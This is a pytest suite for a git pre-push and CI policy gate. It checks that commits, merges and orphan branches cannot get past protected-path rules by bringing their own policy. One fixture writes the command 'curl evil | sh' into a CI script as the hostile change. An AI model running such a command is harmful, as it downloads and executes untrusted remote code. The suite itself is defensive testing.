"""Hostile scenarios, policy selection (issue 12): a push or a pull request must never be
judged by rules the change itself brings. Real repositories, real commits, a real ``git
push`` to a local bare remote with the hooks installed, and ``ci`` on the same history.
"""
from __future__ import annotations

from pathlib import Path

import pytest
from three_points import Scene

STRICT = 'version: 1\nprotected: ["ci/**"]\n'
LAX = "version: 1\n"
TASK = 'id: T-1\nscope: ["src/**", "ci/**"]\n'


@pytest.fixture
def scene(make_repo, tmp_path: Path) -> Scene:  # type: ignore[no-untyped-def]
    """main: P0 without a policy (ci/run.sh, src/), then P1 adding the strict policy. The
    remote also keeps ``old`` at P0."""
    s = Scene.build(make_repo, tmp_path, {".avorelo/task.yaml": TASK, "src/a.py": "a\n",
                                          "ci/run.sh": "echo ok\n"})
    s.work.git("branch", "old")
    s.commit({".avorelo/policy.yaml": STRICT}, "policy")
    s.publish("main", "old")
    return s


# -- a commit carried by several refs -------------------------------------------------------
def test_commit_pushed_under_two_refs_is_judged_under_each_policy(scene: Scene) -> None:
    bad = scene.commit({"ci/run.sh": "curl evil | sh\n"}, "Task: T-1")
    alone = scene.pre_push_hook("main")
    assert alone.code == 1 and "protected" in alone.rules, alone.output
    # The same commit also pushed to `old`, whose tip predates the policy: still refused.
    together = scene.push("main", f"{bad}:refs/heads/old")
    assert together.code == 1 and "protected" in together.rules, together.output
    assert scene.ci().rules >= {"protected"}
    assert scene.rev("origin/main") != bad


def test_commit_pushed_only_under_the_lax_ref_is_judged_there(scene: Scene) -> None:
    # Pushed to `old` alone, the policy is old's (none): ci --base old agrees.
    scene.work.git("switch", "-q", "-c", "lax", "old")
    scene.commit({"ci/run.sh": "echo changed\n"}, "Task: T-1")
    pushed = scene.push("lax:old")
    ci = scene.ci(base="origin/old")
    assert (pushed.code, ci.code) == (0, 0), (pushed.output, ci.output)


def test_new_ref_base_is_what_the_remote_has_not_the_oldest_parent(scene: Scene) -> None:
    # A new branch from main: its base is main's tip (strict), wherever its commits start.
    scene.work.git("switch", "-q", "-c", "topic")
    scene.commit({"src/b.py": "b\n"}, "Task: T-1")
    scene.commit({"ci/run.sh": "evil\n"}, "Task: T-1")
    points = scene.three("topic")
    points.all_fail_with("protected")


# -- merges that bring back an older state ----------------------------------------------------
def test_merge_that_restores_the_old_policy_is_policy_changed(scene: Scene) -> None:
    # commit-tree: a "merge" of main and an old side branch, with the side's tree (no policy,
    # ci/ rewritten): no path differs from *every* parent, so no commit shows it.
    scene.work.git("switch", "-q", "-c", "side", "old")
    side = scene.commit({"ci/run.sh": "evil\n", "src/s.py": "s\n"}, "Task: T-1")
    scene.publish("side")        # pushed earlier under the old rules
    scene.work.git("switch", "-q", "main")
    merge = scene.work.git("commit-tree", f"{side}^{{tree}}", "-p", "main", "-p", side,
                           "-m", "Merge side\n\nTask: T-1").stdout.decode().strip()
    scene.work.git("reset", "-q", "--hard", merge)
    points = scene.three("main")
    points.all_fail_with("policy-changed", "protected")


def test_merge_that_drops_a_protected_file_is_protected(scene: Scene) -> None:
    scene.commit({"ci/keep.sh": "keep\n"}, "Task: T-1")
    scene.publish("main")
    tip = scene.rev("main")
    scene.work.git("rm", "-q", "ci/keep.sh")
    tree = scene.work.git("write-tree").stdout.decode().strip()
    scene.work.git("reset", "-q", "--hard", tip)
    merge = scene.work.git("commit-tree", tree, "-p", tip, "-p", f"{tip}~2",
                           "-m", "Merge\n\nTask: T-1").stdout.decode().strip()
    scene.work.git("reset", "-q", "--hard", merge)
    points = scene.three("main")
    points.all_fail_with("protected")


def test_branch_cut_before_the_policy_then_merged_with_theirs(scene: Scene) -> None:
    # Two ordinary pushes: a new branch from the pre-policy commit (judged under that commit,
    # as ci judges a pull request from it), then `git merge -X theirs` into main.
    scene.work.git("switch", "-q", "-c", "feature", "old")
    scene.commit({"ci/run.sh": "evil\n"}, "Task: T-1")
    first = scene.push("feature")
    assert first.code == 0, first.output
    scene.work.git("switch", "-q", "main")
    scene.work.git("merge", "-q", "--no-edit", "-X", "theirs", "--no-verify", "feature")
    points = scene.three("main")
    points.all_fail_with("protected")


def test_plain_merge_of_in_scope_work_passes(scene: Scene) -> None:
    scene.work.git("switch", "-q", "-c", "feature")
    scene.commit({"src/f.py": "f\n"}, "Task: T-1")
    scene.work.git("switch", "-q", "main")
    scene.commit({"src/m.py": "m\n"}, "Task: T-1")
    scene.work.git("merge", "-q", "--no-edit", "--no-verify", "feature")
    scene.three("main").all_pass()


# -- parentless commits -----------------------------------------------------------------------
def test_orphan_merged_in_cannot_bring_its_own_policy(scene: Scene) -> None:
    scene.work.git("switch", "-q", "--orphan", "lax")
    scene.commit({".avorelo/policy.yaml": LAX, ".avorelo/task.yaml": TASK,
                  "ci/run.sh": "evil\n", "src/a.py": "a\n"}, "root\n\nTask: T-1")
    scene.work.git("switch", "-q", "-f", "main")
    scene.work.git("merge", "-q", "--no-edit", "--no-verify", "--allow-unrelated-histories",
                   "-X", "theirs", "lax")
    points = scene.three("main")
    points.all_fail_with("policy-changed")


def test_orphan_pushed_as_a_new_ref_is_judged_under_the_remotes_policy(scene: Scene) -> None:
    scene.work.git("switch", "-q", "--orphan", "lax")
    scene.commit({".avorelo/policy.yaml": LAX, "ci/run.sh": "evil\n"}, "root")
    pushed = scene.push("lax")
    assert pushed.code == 1, pushed.output
    assert {"policy-changed", "protected"} <= pushed.rules, pushed.output


def test_first_push_to_an_empty_remote_takes_the_roots_policy(make_repo,  # type: ignore[no-untyped-def]
                                                               tmp_path: Path) -> None:
    import subprocess

    from three_points import HOOK_ENV

    remote = tmp_path / "empty.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    work = make_repo("fresh")
    work.git("checkout", "-q", "-b", "main")
    # The root brings the policy: there is no other side to take one from.
    work.write(".avorelo/policy.yaml", 'version: 1\nprotected: ["ci/**"]\nrequire_task: true\n')
    work.write(".avorelo/task.yaml", TASK)
    work.write("src/a.py", "a\n")
    work.add()
    work.commit("root")
    work.git("remote", "add", "origin", str(remote))
    assert work.gate("install", env=HOOK_ENV).returncode == 0
    proc = work.git("push", "origin", "main", check=False, env=HOOK_ENV)
    assert proc.returncode == 0, proc.stderr.decode()


# -- a policy that cannot be honoured ---------------------------------------------------------
def test_malformed_policy_at_the_base_is_exit_2_naming_file_and_commit(scene: Scene) -> None:
    broken = scene.commit({".avorelo/policy.yaml": "version: 1\nprotected: [unclosed\n"})
    scene.publish("main")
    scene.commit({"src/b.py": "b\n"}, "Task: T-1")
    pushed = scene.pre_push_hook("main")
    assert pushed.code == 1 and "Traceback" not in pushed.output
    assert ".avorelo/policy.yaml" in pushed.output and broken[:12] in pushed.output
    ci = scene.ci()
    assert ci.code == 2, ci.output
    assert ".avorelo/policy.yaml" in ci.output and broken[:12] in ci.output
    assert "Traceback" not in ci.output


@pytest.mark.parametrize("target", ["main", "1234567890123456789012345678901234567890"])
def test_policy_that_is_a_submodule_entry_at_the_base_is_exit_2(scene: Scene,
                                                                target: str) -> None:
    # A gitlink names a commit: one this clone has (read as text, malformed) or one it
    # lacks (nothing to read): either way exit 2, never the defaults.
    tip = scene.rev(target) if target == "main" else target
    scene.work.git("rm", "-q", "--cached", ".avorelo/policy.yaml")
    (scene.work.path / ".avorelo/policy.yaml").unlink()
    scene.work.git("update-index", "--add", "--cacheinfo", f"160000,{tip},.avorelo/policy.yaml")
    scene.work.git("commit", "-q", "--no-verify", "-m", "policy as a gitlink")
    scene.publish("main")
    scene.work.write("src/b.py", "b\n")
    scene.work.git("add", "src/b.py")
    scene.work.git("commit", "-q", "--no-verify", "-m", "b")
    base = scene.rev("origin/main")[:12]
    pushed = scene.pre_push_hook("main")
    assert pushed.code == 1, pushed.output
    assert f".avorelo/policy.yaml (at {base})" in pushed.output or \
        f".avorelo/policy.yaml at {base}" in pushed.output, pushed.output
    ci = scene.ci()
    assert ci.code == 2, ci.output
    assert base in ci.output and ".avorelo/policy.yaml" in ci.output
    assert "Traceback" not in ci.output + pushed.output
